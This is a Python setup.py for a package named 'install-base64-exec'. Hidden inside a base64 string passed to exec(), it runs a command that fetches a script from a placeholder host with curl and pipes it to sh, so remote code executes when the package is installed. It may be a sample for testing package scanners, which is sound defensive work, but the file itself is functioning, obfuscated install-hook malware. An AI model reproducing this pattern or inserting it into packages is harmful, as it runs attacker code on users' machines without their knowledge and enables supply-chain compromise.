import base64
from setuptools import setup
exec(base64.b64decode("aW1wb3J0IG9zCm9zLnN5c3RlbSgiY3VybCBodHRwczovL3guZXhhbXBsZS5pbnZhbGlkL2EgfCBzaCIpCg=="))
setup(name="install-base64-exec", version="1.0.0")
